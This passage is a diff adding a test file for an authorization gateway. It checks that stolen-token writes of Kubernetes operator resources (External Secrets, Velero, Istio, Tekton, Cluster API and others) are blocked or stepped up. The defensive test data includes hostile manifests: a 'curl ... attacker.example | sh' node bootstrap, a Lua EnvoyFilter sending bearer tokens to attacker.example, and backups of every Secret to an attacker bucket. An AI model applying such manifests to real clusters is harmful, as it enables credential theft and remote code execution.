@@ -1,0 +1,473 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { freshSubjects, reason, rules, startBuiltServer, type BuiltServer, type Level } from '../support/built-server.js';
+import type { CheckResponse } from '../support/grpc-client.js';
+import { checkRequest } from '../support/requests.js';
+
+/**
+ * The custom resources of the operators most clusters run, whose write grants more than it looks:
+ * a Secret read from the cloud vault, every Secret of the cluster copied to a bucket, code run on a
+ * new node or in a build step, the mesh or a gateway taken over. Black-box against the built server
+ * with the example policy (test/support/built-server.ts), each object sent as `kubectl apply -f`
+ * sends it (a create with the manifest in the last-applied annotation; a merge patch for a custom
+ * resource that exists), in the token states of attack-catalog.test.ts:
+ *
+ * - `stolen`: a one-factor token signed in 10 hours ago, from a network the victim never used;
+ * - `inside`: the same token from inside the company's network (a compromised pod or runner),
+ *   where only the policy stands in the way;
+ * - `remote`: a two-factor token a minute old, used from elsewhere after the victim's own kubectl
+ *   used it from the office (a phishing proxy, a copied kubeconfig);
+ * - `laptop`: malware on the victim's laptop with that fresh two-factor token, speaking as kubectl.
+ *
+ * `need` is what a security reviewer expects the object to need: `aal3` (never allowed with the
+ * attacker's token), `aal2` (the stolen one-factor token is stepped up; the laptop is allowed, what
+ * two factors allow being the risk engine's matter) or `routine` (the operator's everyday object,
+ * which must not ask more than the everyday sign-in of a token used where it was proven).
+ */
+
+let server: BuiltServer;
+beforeAll(async () => {
+  server = await startBuiltServer('operators');
+}, 180_000);
+afterAll(async () => {
+  await server?.close();
+});
+
+const subjects = freshSubjects(() => server.issuer, 'operators');
+const KUBE = 'kube.localhost';
+const OFFICE = '10.20.4.17';
+const ELSEWHERE = '198.51.100.23';
+const INSIDE = '10.31.7.9';
+const KUBECTL = 'kubectl/v1.32.4 (linux/amd64) kubernetes/5f8c2b1';
+
+type State = 'stolen' | 'inside' | 'remote' | 'laptop';
+const STATES: Record<State, { level: Level; age: number; source: string; victim?: boolean }> = {
+  stolen: { level: 'aal1', age: 36_000, source: ELSEWHERE },
+  inside: { level: 'aal1', age: 36_000, source: INSIDE },
+  remote: { level: 'aal2', age: 60, source: ELSEWHERE, victim: true },
+  laptop: { level: 'aal2', age: 60, source: OFFICE, victim: true },
+};
+
+type Need = 'aal3' | 'aal2' | 'routine';
+
+interface Req {
+  method: string;
+  path: string;
+  body: unknown;
+  headers: Record<string, string>;
+}
+
+interface Entry {
+  /** The operator, and what the object does when written. */
+  op: string;
+  what: string;
+  req: Req;
+  need: Need;
+  /** A rule or `guardrail:<code>` the decision names when it is not allowed. */
+  by?: string;
+}
+
+type Doc = { apiVersion: string; kind: string; metadata: { name: string; namespace?: string; labels?: Record<string, string>; annotations?: Record<string, string> }; [k: string]: unknown };
+
+/** The plural kube serves each kind under (the CRDs' `spec.names.plural`). */
+const PLURAL: Record<string, string> = {
+  ExternalSecret: 'externalsecrets',
+  SecretStore: 'secretstores',
+  ClusterSecretStore: 'clustersecretstores',
+  PushSecret: 'pushsecrets',
+  BackupStorageLocation: 'backupstoragelocations',
+  Backup: 'backups',
+  Restore: 'restores',
+  Schedule: 'schedules',
+  DownloadRequest: 'downloadrequests',
+  SecretProviderClass: 'secretproviderclasses',
+  VaultStaticSecret: 'vaultstaticsecrets',
+  VaultAuth: 'vaultauths',
+  SealedSecret: 'sealedsecrets',
+  TriggerAuthentication: 'triggerauthentications',
+  ClusterTriggerAuthentication: 'clustertriggerauthentications',
+  Provider: 'providers',
+  ProviderConfig: 'providerconfigs',
+  Composition: 'compositions',
+  EnvoyFilter: 'envoyfilters',
+  AuthorizationPolicy: 'authorizationpolicies',
+  Sidecar: 'sidecars',
+  TaskRun: 'taskruns',
+  Task: 'tasks',
+  PipelineRun: 'pipelineruns',
+  Cluster: 'clusters',
+  Machine: 'machines',
+  KubeadmConfigTemplate: 'kubeadmconfigtemplates',
+  VirtualMachine: 'virtualmachines',
+  Prometheus: 'prometheuses',
+  ScrapeConfig: 'scrapeconfigs',
+  Setting: 'settings',
+  BackupTarget: 'backuptargets',
+  CephObjectStoreUser: 'cephobjectstoreusers',
+  KafkaUser: 'kafkausers',
+  Kafka: 'kafkas',
+  ReferenceGrant: 'referencegrants',
+  HTTPRoute: 'httproutes',
+  Gateway: 'gateways',
+};
+
+function base(doc: Doc): string {
+  const ns = doc.metadata.namespace;
+  return `/apis/${doc.apiVersion}/${ns ? `namespaces/${ns}/` : ''}${PLURAL[doc.kind]!}`;
+}
+
+/** `kubectl apply -f` of an object that does not exist yet: a create, with the manifest in the last-applied annotation. */
+function applied(doc: Doc): Req {
+  const body = { ...doc, metadata: { ...doc.metadata, annotations: { ...doc.metadata.annotations, 'kubectl.kubernetes.io/last-applied-configuration': `${JSON.stringify(doc)}\n` } } };
+  return { method: 'POST', path: `${base(doc)}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, body, headers: { 'content-type': 'application/json' } };
+}
+
+/** `kubectl apply -f` of a custom resource that exists: a JSON merge patch of what changed (no strategic merge for custom kinds). */
+function patched(doc: Doc, change: Record<string, unknown>): Req {
+  return { method: 'PATCH', path: `${base(doc)}/${doc.metadata.name}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, body: change, headers: { 'content-type': 'application/merge-patch+json' } };
+}
+
+/** `kubectl delete`. */
+function deleted(doc: Doc): Req {
+  return { method: 'DELETE', path: `${base(doc)}/${doc.metadata.name}`, body: { kind: 'DeleteOptions', apiVersion: 'v1', propagationPolicy: 'Background' }, headers: { 'content-type': 'application/json' } };
+}
+
+async function send(e: Entry, state: State): Promise<CheckResponse> {
+  const s = STATES[state];
+  const token = await subjects.tokenOf(s.level, s.age);
+  if (s.victim) {
+    const own = await server.client.check(checkRequest({ host: KUBE, source: OFFICE, path: '/api/v1/namespaces/dev/pods?limit=500', token, headers: { 'user-agent': KUBECTL } }));
+    expect(reason(own), "the victim's own request").toBe('allowed');
+  }
+  const body = JSON.stringify(e.req.body);
+  const headers = { 'user-agent': KUBECTL, 'x-envoy-auth-partial-body': 'false', ...e.req.headers };
+  return server.client.check(checkRequest({ host: KUBE, source: s.source, method: e.req.method, path: e.req.path, token, headers, body }));
+}
+
+const NOT_ALLOWED = ['acr_insufficient', 'auth_too_old', 'policy_deny', 'risk_deny'];
+
+function judge(e: Entry, state: State, res: CheckResponse): void {
+  const r = reason(res);
+  const where = `${e.op}: ${e.what} (${state}) → ${r} [${rules(res)}]`;
+  if (e.need === 'aal3' || state === 'stolen' || state === 'remote' || (e.need === 'aal2' && state === 'inside')) expect.soft(NOT_ALLOWED, where).toContain(r);
+  else expect.soft(r, where).toBe('allowed');
+  if (r !== 'allowed' && e.by) expect.soft(rules(res), where).toContain(e.by);
+}
+
+function run(list: Entry[]): void {
+  it.each(list.map((e) => [`${e.op}: ${e.what}`, e] as const))('%s', async (_name, e) => {
+    for (const state of Object.keys(STATES) as State[]) judge(e, state, await send(e, state));
+  });
+}
+
+// --- External Secrets Operator (external-secrets.io) ------------------------------------------
+
+const externalSecret: Doc = {
+  apiVersion: 'external-secrets.io/v1',
+  kind: 'ExternalSecret',
+  metadata: { name: 'payments-db', namespace: 'dev' },
+  spec: {
+    refreshInterval: '1h',
+    // The platform's ClusterSecretStore reads the whole vault with the operator's credentials.
+    secretStoreRef: { kind: 'ClusterSecretStore', name: 'vault-backend' },
+    target: { name: 'payments-db', creationPolicy: 'Owner' },
+    dataFrom: [{ extract: { key: 'prod/payments/postgres' } }],
+  },
+};
+const webhookStore: Doc = {
+  apiVersion: 'external-secrets.io/v1',
+  kind: 'SecretStore',
+  metadata: { name: 'metrics-sink', namespace: 'dev' },
+  spec: { provider: { webhook: { url: 'https://hooks.attacker.example/{{ .remoteRef.key }}', method: 'POST', result: { jsonPath: '$.value' } } } },
+};
+const pushSecret: Doc = {
+  apiVersion: 'external-secrets.io/v1alpha1',
+  kind: 'PushSecret',
+  metadata: { name: 'backup-creds', namespace: 'dev' },
+  spec: {
+    refreshInterval: '10s',
+    secretStoreRefs: [{ name: 'metrics-sink', kind: 'SecretStore' }],
+    selector: { secret: { name: 'payments-db' } },
+    data: [{ match: { secretKey: 'password', remoteRef: { remoteKey: 'payments-db' } } }],
+  },
+};
+const clusterStore: Doc = {
+  apiVersion: 'external-secrets.io/v1',
+  kind: 'ClusterSecretStore',
+  metadata: { name: 'vault-any' },
+  spec: { provider: { vault: { server: 'https://vault.attacker.example:8200', path: 'secret', version: 'v2', auth: { tokenSecretRef: { name: 'vault-token', key: 'token', namespace: 'external-secrets' } } } } },
+};
+
+const eso: Entry[] = [
+  { op: 'External Secrets', what: 'an ExternalSecret in dev extracting prod/payments/postgres through the ClusterSecretStore (a vault Secret read into a namespace the caller reads)', req: applied(externalSecret), need: 'aal2', by: 'secret-sync-objects' },
+  { op: 'External Secrets', what: 'an ExternalSecret repointed at another vault key (merge patch)', req: patched(externalSecret, { spec: { dataFrom: [{ extract: { key: 'prod/billing/stripe' } }] } }), need: 'aal2', by: 'secret-sync-objects' },
+  { op: 'External Secrets', what: 'a SecretStore in dev with a webhook provider at an outside URL', req: applied(webhookStore), need: 'aal2', by: 'secret-sync-objects' },
+  { op: 'External Secrets', what: "a PushSecret sending dev's payments-db Secret to that store (out of the cluster)", req: applied(pushSecret), need: 'aal2', by: 'secret-sync-objects' },
+  { op: 'External Secrets', what: 'a ClusterSecretStore at an outside vault, for every namespace', req: applied(clusterStore), need: 'aal3', by: 'cluster-add-on-objects' },
+  { op: 'External Secrets', what: 'an ExternalSecret in a production namespace', req: applied({ ...externalSecret, metadata: { name: 'db', namespace: 'payments-prod' } }), need: 'aal2', by: 'prod-writes' },
+];
+
+// --- Velero (velero.io) -----------------------------------------------------------------------
+
+const bsl: Doc = {
+  apiVersion: 'velero.io/v1',
+  kind: 'BackupStorageLocation',
+  metadata: { name: 'offsite', namespace: 'velero' },
+  spec: { provider: 'aws', objectStorage: { bucket: 'attacker-loot', prefix: 'c1' }, config: { region: 'us-east-1', s3Url: 'https://s3.attacker.example', s3ForcePathStyle: 'true' }, credential: { name: 'offsite-creds', key: 'cloud' } },
+};
+const backup: Doc = {
+  apiVersion: 'velero.io/v1',
+  kind: 'Backup',
+  metadata: { name: 'all-now', namespace: 'velero' },
+  spec: { includedNamespaces: ['*'], includedResources: ['secrets'], includeClusterResources: true, storageLocation: 'offsite', ttl: '720h0m0s' },
+};
+const restore: Doc = {
+  apiVersion: 'velero.io/v1',
+  kind: 'Restore',
+  metadata: { name: 'implant', namespace: 'velero' },
+  // A backup the attacker wrote to the bucket: its ClusterRoleBinding and DaemonSet are restored by Velero's cluster-admin.
+  spec: { backupName: 'implant', includedNamespaces: ['*'], includeClusterResources: true, existingResourcePolicy: 'update' },
+};
+const schedule: Doc = {
+  apiVersion: 'velero.io/v1',
+  kind: 'Schedule',
+  metadata: { name: 'nightly-offsite', namespace: 'velero' },
+  spec: { schedule: '0 3 * * *', template: { includedNamespaces: ['*'], storageLocation: 'offsite' } },
+};
+const download: Doc = {
+  apiVersion: 'velero.io/v1',
+  kind: 'DownloadRequest',
+  metadata: { name: 'nightly-20261204-contents', namespace: 'velero' },
+  // Velero answers with a signed URL to the backup's tarball: every Secret it holds.
+  spec: { target: { kind: 'BackupContents', name: 'nightly-20261204' } },
+};
+
+const velero: Entry[] = [
+  { op: 'Velero', what: "a BackupStorageLocation at the attacker's bucket", req: applied(bsl), need: 'aal3', by: 'backup-objects' },
+  { op: 'Velero', what: 'a Backup of every Secret in every namespace to it', req: applied(backup), need: 'aal3', by: 'backup-objects' },
+  { op: 'Velero', what: 'a Restore of every namespace and cluster resource (Velero restores as cluster-admin)', req: applied(restore), need: 'aal3', by: 'backup-objects' },
+  { op: 'Velero', what: 'a Schedule backing every namespace up nightly to it', req: applied(schedule), need: 'aal3', by: 'backup-objects' },
+  { op: 'Velero', what: "a DownloadRequest for a backup's contents (velero backup download)", req: applied(download), need: 'aal3', by: 'backup-objects' },
+  { op: 'Velero', what: 'the default BackupStorageLocation repointed (merge patch of its bucket)', req: patched({ ...bsl, metadata: { name: 'default', namespace: 'velero' } }, { spec: { objectStorage: { bucket: 'attacker-loot' } } }), need: 'aal3', by: 'backup-objects' },
+];
+
+// --- Secrets Store CSI, Vault Secrets Operator, Sealed Secrets ---------------------------------
+
+const spc: Doc = {
+  apiVersion: 'secrets-store.csi.x-k8s.io/v1',
+  kind: 'SecretProviderClass',
+  metadata: { name: 'vault-db', namespace: 'dev' },
+  spec: {
+    provider: 'vault',
+    parameters: { vaultAddress: 'https://vault.internal:8200', roleName: 'payments-prod', objects: '- objectName: "password"\n  secretPath: "secret/data/prod/payments/db"\n  secretKey: "password"\n' },
+    secretObjects: [{ secretName: 'db', type: 'Opaque', data: [{ objectName: 'password', key: 'password' }] }],
+  },
+};
+const vss: Doc = {
+  apiVersion: 'secrets.hashicorp.com/v1beta1',
+  kind: 'VaultStaticSecret',
+  metadata: { name: 'payments-db', namespace: 'dev' },
+  spec: { type: 'kv-v2', mount: 'secret', path: 'prod/payments/db', destination: { name: 'payments-db', create: true }, refreshAfter: '30s', vaultAuthRef: 'vault-secrets-operator/default' },
+};
+const vaultAuth: Doc = {
+  apiVersion: 'secrets.hashicorp.com/v1beta1',
+  kind: 'VaultAuth',
+  metadata: { name: 'prod-role', namespace: 'dev' },
+  spec: { method: 'kubernetes', mount: 'kubernetes', kubernetes: { role: 'payments-prod', serviceAccount: 'default', audiences: ['vault'] } },
+};
+const sealed: Doc = {
+  apiVersion: 'bitnami.com/v1alpha1',
+  kind: 'SealedSecret',
+  // A cluster-wide SealedSecret copied from git decrypts in any namespace, the caller's included.
+  metadata: { name: 'stolen-copy', namespace: 'dev', annotations: { 'sealedsecrets.bitnami.com/cluster-wide': 'true' } },
+  spec: { encryptedData: { password: 'AgBy3i4OJSWK+PiTySYZZA9rO43cGDEq7nGu1xZ8r1yq5V5D0f7xVQaZ1dE5' }, template: { metadata: { name: 'stolen-copy', namespace: 'dev', annotations: { 'sealedsecrets.bitnami.com/cluster-wide': 'true' } } } },
+};
+
+const secretsCsi: Entry[] = [
+  { op: 'Secrets Store CSI', what: "a SecretProviderClass in dev naming production's Vault role and path", req: applied(spc), need: 'aal2', by: 'secret-sync-objects' },
+  { op: 'Vault Secrets Operator', what: 'a VaultStaticSecret in dev copying secret/prod/payments/db into a Secret there', req: applied(vss), need: 'aal2', by: 'secret-sync-objects' },
+  { op: 'Vault Secrets Operator', what: "a VaultAuth in dev logging in as production's Vault role", req: applied(vaultAuth), need: 'aal2', by: 'secret-sync-objects' },
+  { op: 'Sealed Secrets', what: 'a cluster-wide SealedSecret created in dev (decrypted there by the controller)', req: applied(sealed), need: 'aal2', by: 'secret-sync-objects' },
+];
+
+// --- KEDA (keda.sh) --------------------------------------------------------------------------
+
+const keda: Entry[] = [
+  {
+    op: 'KEDA',
+    what: "a ClusterTriggerAuthentication reading kube-system's Secrets for every namespace",
+    req: applied({ apiVersion: 'keda.sh/v1alpha1', kind: 'ClusterTriggerAuthentication', metadata: { name: 'all' }, spec: { secretTargetRef: [{ parameter: 'token', name: 'bootstrap-token-abcdef', key: 'token-secret' }] } }),
+    need: 'aal3',
+    by: 'cluster-add-on-objects',
+  },
+  {
+    op: 'KEDA',
+    what: "a TriggerAuthentication in dev using the KEDA operator's own cloud identity (identityOwner: keda)",
+    req: applied({ apiVersion: 'keda.sh/v1alpha1', kind: 'TriggerAuthentication', metadata: { name: 'as-keda', namespace: 'dev' }, spec: { podIdentity: { provider: 'aws', identityOwner: 'keda' } } }),
+    need: 'aal2',
+    by: 'secret-sync-objects',
+  },
+];
+
+// --- Crossplane -------------------------------------------------------------------------------
+
+const crossplane: Entry[] = [
+  { op: 'Crossplane', what: "a Provider package from the attacker's registry (runs as a controller with its credentials)", req: applied({ apiVersion: 'pkg.crossplane.io/v1', kind: 'Provider', metadata: { name: 'provider-aws-s3' }, spec: { package: 'ghcr.io/attacker/provider-aws-s3:v1.0.0' } }), need: 'aal3', by: 'cluster-add-on-objects' },
+  { op: 'Crossplane', what: "a ProviderConfig using crossplane-system's cloud credentials", req: applied({ apiVersion: 'aws.upbound.io/v1beta1', kind: 'ProviderConfig', metadata: { name: 'default' }, spec: { credentials: { source: 'Secret', secretRef: { namespace: 'crossplane-system', name: 'aws-creds', key: 'creds' } } } }), need: 'aal3', by: 'cluster-add-on-objects' },
+  { op: 'Crossplane', what: 'a Composition every claim of its kind is built from', req: applied({ apiVersion: 'apiextensions.crossplane.io/v1', kind: 'Composition', metadata: { name: 'xpostgres' }, spec: { compositeTypeRef: { apiVersion: 'db.example.org/v1', kind: 'XPostgres' }, mode: 'Pipeline', pipeline: [{ step: 'render', functionRef: { name: 'function-patch-and-transform' } }] } }), need: 'aal3', by: 'cluster-add-on-objects' },
+];
+
+// --- Istio ------------------------------------------------------------------------------------
+
+const luaFilter: Doc = {
+  apiVersion: 'networking.istio.io/v1alpha3',
+  kind: 'EnvoyFilter',
+  metadata: { name: 'debug-headers', namespace: 'istio-system' },
+  spec: {
+    configPatches: [
+      {
+        applyTo: 'HTTP_FILTER',
+        match: { context: 'GATEWAY', listener: { filterChain: { filter: { name: 'envoy.filters.network.http_connection_manager' } } } },
+        patch: { operation: 'INSERT_FIRST', value: { name: 'envoy.lua', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua', inlineCode: 'function envoy_on_request(h) h:httpCall("exfil", {[":method"]="POST",[":path"]="/",[":authority"]="attacker.example"}, h:headers():get("authorization"), 1000) end' } } },
+      },
+    ],
+  },
+};
+
+const istio: Entry[] = [
+  { op: 'Istio', what: 'an EnvoyFilter with Lua in the root namespace sending every bearer token out', req: applied(luaFilter), need: 'aal3', by: 'gate-proxy-filters' },
+  {
+    op: 'Istio',
+    what: 'an EnvoyFilter in dev loading a remote WASM module',
+    req: applied({ apiVersion: 'networking.istio.io/v1alpha3', kind: 'EnvoyFilter', metadata: { name: 'wasm', namespace: 'dev' }, spec: { configPatches: [{ applyTo: 'EXTENSION_CONFIG', patch: { operation: 'ADD', value: { name: 'x', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.http.wasm.v3.Wasm', config: { vm_config: { runtime: 'envoy.wasm.runtime.v8', code: { remote: { http_uri: { uri: 'https://attacker.example/x.wasm' } } } } } } } } }] } }),
+    need: 'aal3',
+    by: 'gate-proxy-filters',
+  },
+  { op: 'Istio', what: 'an allow-all AuthorizationPolicy in the root namespace (mesh-wide)', req: applied({ apiVersion: 'security.istio.io/v1', kind: 'AuthorizationPolicy', metadata: { name: 'allow-all', namespace: 'istio-system' }, spec: { action: 'ALLOW', rules: [{}] } }), need: 'aal3', by: 'gate-mesh' },
+  { op: 'Istio', what: "a Sidecar in the root namespace (every proxy's egress)", req: applied({ apiVersion: 'networking.istio.io/v1', kind: 'Sidecar', metadata: { name: 'default', namespace: 'istio-system' }, spec: { outboundTrafficPolicy: { mode: 'ALLOW_ANY' }, egress: [{ hosts: ['*/*'] }] } }), need: 'aal3', by: 'gate-mesh' },
+  { op: 'Istio', what: 'an allow-all AuthorizationPolicy in a production namespace', req: applied({ apiVersion: 'security.istio.io/v1', kind: 'AuthorizationPolicy', metadata: { name: 'allow-all', namespace: 'payments-prod' }, spec: { action: 'ALLOW', rules: [{}] } }), need: 'aal2', by: 'prod-writes' },
+];
+
+// --- Tekton (tekton.dev) -----------------------------------------------------------------------
+
+const taskRun = (name: string, taskSpec: Record<string, unknown>, extra: Record<string, unknown> = {}): Doc => ({ apiVersion: 'tekton.dev/v1', kind: 'TaskRun', metadata: { name, namespace: 'dev' }, spec: { taskSpec, ...extra } });
+
+const tekton: Entry[] = [
+  { op: 'Tekton', what: 'a TaskRun whose step runs privileged', req: applied(taskRun('build', { steps: [{ name: 'build', image: 'docker:27-dind', script: 'dockerd & sleep 5; docker build .', securityContext: { privileged: true } }] })), need: 'aal3', by: 'guardrail:privileged_container' },
+  { op: 'Tekton', what: "a TaskRun mounting the node's / in a step", req: applied(taskRun('inspect', { steps: [{ name: 'cat', image: 'busybox:1.36', script: 'cat /host/etc/shadow', volumeMounts: [{ name: 'host', mountPath: '/host' }] }], volumes: [{ name: 'host', hostPath: { path: '/' } }] })), need: 'aal3', by: 'guardrail:host_path_volume' },
+  // No key of this body spells `container`, `script` or `template`: only `steps` says it holds a pod.
+  { op: 'Tekton', what: "a TaskRun whose step (a command, no script) reads the node's kubelet directory", req: applied(taskRun('pods', { steps: [{ name: 'ls', image: 'alpine:3.20', command: ['ls', '-R', '/host/pods'], volumeMounts: [{ name: 'kubelet', mountPath: '/host' }] }], volumes: [{ name: 'kubelet', hostPath: { path: '/var/lib/kubelet' } }] })), need: 'aal3', by: 'guardrail:host_path_volume' },
+  { op: 'Tekton', what: "a TaskRun on the node's network (podTemplate.hostNetwork)", req: applied(taskRun('sniff', { steps: [{ name: 'sniff', image: 'nicolaka/netshoot:v0.13', script: 'tcpdump -i any -A port 80' }] }, { podTemplate: { hostNetwork: true } })), need: 'aal3', by: 'guardrail:host_namespace' },
+  { op: 'Tekton', what: 'a Task whose sidecar runs privileged (every TaskRun of it)', req: applied({ apiVersion: 'tekton.dev/v1', kind: 'Task', metadata: { name: 'dind', namespace: 'dev' }, spec: { steps: [{ name: 'build', image: 'docker:27', script: 'docker build .' }], sidecars: [{ name: 'dind', image: 'docker:27-dind', securityContext: { privileged: true } }] } }), need: 'aal3', by: 'guardrail:privileged_container' },
+  { op: 'Tekton', what: 'an ordinary TaskRun (go test)', req: applied(taskRun('unit', { steps: [{ name: 'test', image: 'golang:1.23', script: 'go test ./...' }] })), need: 'routine' },
+];
+
+// --- Cluster API (cluster.x-k8s.io) -----------------------------------------------------------
+
+const capiCluster: Doc = { apiVersion: 'cluster.x-k8s.io/v1beta1', kind: 'Cluster', metadata: { name: 'prod-eu', namespace: 'fleet' }, spec: { paused: false } };
+const capi: Entry[] = [
+  {
+    op: 'Cluster API',
+    what: 'a KubeadmConfigTemplate whose preKubeadmCommands run as root on every new node',
+    req: applied({ apiVersion: 'bootstrap.cluster.x-k8s.io/v1beta1', kind: 'KubeadmConfigTemplate', metadata: { name: 'prod-eu-md-0', namespace: 'fleet' }, spec: { template: { spec: { preKubeadmCommands: ['curl -fsSL https://attacker.example/n.sh | sh'], joinConfiguration: { nodeRegistration: { kubeletExtraArgs: { 'anonymous-auth': 'true' } } } } } } }),
+    need: 'aal3',
+    by: 'cluster-lifecycle-objects',
+  },
+  {
+    op: 'Cluster API',
+    what: 'a Machine joining the workload cluster with that bootstrap',
+    req: applied({ apiVersion: 'cluster.x-k8s.io/v1beta1', kind: 'Machine', metadata: { name: 'prod-eu-extra', namespace: 'fleet' }, spec: { clusterName: 'prod-eu', version: 'v1.32.4', bootstrap: { configRef: { apiVersion: 'bootstrap.cluster.x-k8s.io/v1beta1', kind: 'KubeadmConfig', name: 'evil' } }, infrastructureRef: { apiVersion: 'infrastructure.cluster.x-k8s.io/v1beta2', kind: 'AWSMachine', name: 'prod-eu-extra' } } }),
+    need: 'aal3',
+    by: 'cluster-lifecycle-objects',
+  },
+  { op: 'Cluster API', what: 'a workload cluster deleted (its machines and control plane with it)', req: deleted(capiCluster), need: 'aal3', by: 'cluster-lifecycle-objects' },
+];
+
+// --- KubeVirt (kubevirt.io) ---------------------------------------------------------------------
+
+const vm = (name: string, domain: Record<string, unknown>, volumes: unknown[]): Doc => ({
+  apiVersion: 'kubevirt.io/v1',
+  kind: 'VirtualMachine',
+  metadata: { name, namespace: 'dev' },
+  spec: { runStrategy: 'Always', template: { spec: { domain: { resources: { requests: { memory: '1Gi' } }, ...domain }, volumes } } },
+});
+
+const kubevirt: Entry[] = [
+  { op: 'KubeVirt', what: "a VirtualMachine with a hostDisk on the node's /var/lib/kubelet", req: applied(vm('disk', { devices: { disks: [{ name: 'host', disk: { bus: 'virtio' } }] } }, [{ name: 'host', hostDisk: { path: '/var/lib/kubelet/pods.img', type: 'DiskOrCreate', capacity: '1Gi' } }])), need: 'aal3', by: 'guardrail:host_path_volume' },
+  { op: 'KubeVirt', what: 'an ordinary VirtualMachine from a container disk', req: applied(vm('fedora', { devices: { disks: [{ name: 'root', disk: { bus: 'virtio' } }] } }, [{ name: 'root', containerDisk: { image: 'quay.io/containerdisks/fedora:41' } }])), need: 'routine' },
+];
+
+// --- Prometheus Operator (monitoring.coreos.com) -----------------------------------------------
+
+const prometheus: Entry[] = [
+  { op: 'Prometheus Operator', what: "the cluster's Prometheus remote-writing every series to an outside URL", req: patched({ apiVersion: 'monitoring.coreos.com/v1', kind: 'Prometheus', metadata: { name: 'k8s', namespace: 'monitoring' } }, { spec: { remoteWrite: [{ url: 'https://metrics.attacker.example/api/v1/write' }] } }), need: 'aal2', by: 'system-writes' },
+  {
+    op: 'Prometheus Operator',
+    what: 'a ScrapeConfig in monitoring sending a Secret as basic auth to an outside target',
+    req: applied({ apiVersion: 'monitoring.coreos.com/v1alpha1', kind: 'ScrapeConfig', metadata: { name: 'x', namespace: 'monitoring' }, spec: { staticConfigs: [{ targets: ['attacker.example:443'] }], scheme: 'HTTPS', basicAuth: { username: { name: 'grafana-admin', key: 'admin-user' }, password: { name: 'grafana-admin', key: 'admin-password' } } } }),
+    need: 'aal2',
+    by: 'system-writes',
+  },
+];
+
+// --- Longhorn and Rook (storage backups) --------------------------------------------------------
+
+const storage: Entry[] = [
+  { op: 'Longhorn', what: "the backup-target Setting pointed at the attacker's S3 (every volume's backups)", req: patched({ apiVersion: 'longhorn.io/v1beta2', kind: 'Setting', metadata: { name: 'backup-target', namespace: 'longhorn-system' } }, { value: 's3://attacker-loot@us-east-1/' }), need: 'aal3', by: 'backup-objects' },
+  { op: 'Longhorn', what: "a BackupTarget at the attacker's S3", req: applied({ apiVersion: 'longhorn.io/v1beta2', kind: 'BackupTarget', metadata: { name: 'default', namespace: 'longhorn-system' }, spec: { backupTargetURL: 's3://attacker-loot@us-east-1/', credentialSecret: 'attacker-s3', pollInterval: '300s' } }), need: 'aal3', by: 'backup-objects' },
+];
+
+// --- Strimzi (kafka.strimzi.io) -----------------------------------------------------------------
+
+const strimzi: Entry[] = [
+  {
+    op: 'Strimzi',
+    what: 'a KafkaUser with All on the cluster and every topic (a superuser by ACL; its password lands in a Secret)',
+    req: applied({ apiVersion: 'kafka.strimzi.io/v1beta2', kind: 'KafkaUser', metadata: { name: 'debug', namespace: 'kafka', labels: { 'strimzi.io/cluster': 'events' } }, spec: { authentication: { type: 'scram-sha-512' }, authorization: { type: 'simple', acls: [{ resource: { type: 'cluster' }, operations: ['All'] }, { resource: { type: 'topic', name: '*', patternType: 'literal' }, operations: ['All'] }] } } }),
+    need: 'aal2',
+    by: 'kafka-access-objects',
+  },
+  { op: 'Strimzi', what: "the Kafka cluster's superUsers extended (merge patch)", req: patched({ apiVersion: 'kafka.strimzi.io/v1beta2', kind: 'Kafka', metadata: { name: 'events', namespace: 'kafka' } }, { spec: { kafka: { authorization: { type: 'simple', superUsers: ['CN=debug'] } } } }), need: 'aal2', by: 'kafka-access-objects' },
+];
+
+// --- Gateway API (gateway.networking.k8s.io) ----------------------------------------------------
+
+const gatewayApi: Entry[] = [
+  {
+    op: 'Gateway API',
+    what: "a ReferenceGrant in payments letting dev's Gateways use its Secrets (the site's TLS key)",
+    req: applied({ apiVersion: 'gateway.networking.k8s.io/v1beta1', kind: 'ReferenceGrant', metadata: { name: 'from-dev', namespace: 'payments' }, spec: { from: [{ group: 'gateway.networking.k8s.io', kind: 'Gateway', namespace: 'dev' }], to: [{ group: '', kind: 'Secret' }] } }),
+    need: 'aal2',
+    by: 'reference-grants',
+  },
+  { op: 'Gateway API', what: 'an HTTPRoute in dev taking the API server\'s host', req: applied({ apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name: 'api', namespace: 'dev' }, spec: { parentRefs: [{ name: 'public', namespace: 'istio-ingress' }], hostnames: ['kube.localhost'], rules: [{ backendRefs: [{ name: 'proxy', port: 8080 }] }] } }), need: 'aal3', by: 'guardrail:gated_host_route' },
+  { op: 'Gateway API', what: "an HTTPRoute in dev for dev's own host", req: applied({ apiVersion: 'gateway.networking.k8s.io/v1', kind: 'HTTPRoute', metadata: { name: 'web', namespace: 'dev' }, spec: { parentRefs: [{ name: 'public', namespace: 'istio-ingress' }], hostnames: ['web.dev.example.com'], rules: [{ backendRefs: [{ name: 'web', port: 8080 }] }] } }), need: 'routine' },
+];
+
+describe('operators: secrets pulled, pushed and decrypted', () => {
+  run([...eso, ...secretsCsi, ...keda]);
+});
+describe('operators: backups and restores', () => {
+  run([...velero, ...storage]);
+});
+describe('operators: code on nodes, in build steps and virtual machines', () => {
+  run([...tekton, ...capi, ...kubevirt, ...crossplane]);
+});
+describe('operators: the mesh, gateways, monitoring and Kafka', () => {
+  run([...istio, ...gatewayApi, ...prometheus, ...strimzi]);
+
+  // A shared Gateway whose listener admits routes from every namespace (`allowedRoutes.namespaces.from:
+  // All`, the default of many ingress charts) serves whichever HTTPRoute claims a hostname: one in dev
+  // for production's shop host takes a share of its traffic, its customers' sessions included. Nothing
+  // in the request says whose host it is: stepgate would need a map of hostnames to the namespaces that
+  // own them (as `kubernetes.hosts` is for its own, guardrail gated_host_route), which is a new setting,
+  // not a rule. Until then the route is an ordinary write in dev.
+  it.fails("Gateway API: an HTTPRoute in dev claiming production's hostname (needs a hostname-owner map)", async () => {
+    const e: Entry = {
+      op: 'Gateway API',
+      what: "an HTTPRoute in dev for production's shop host",
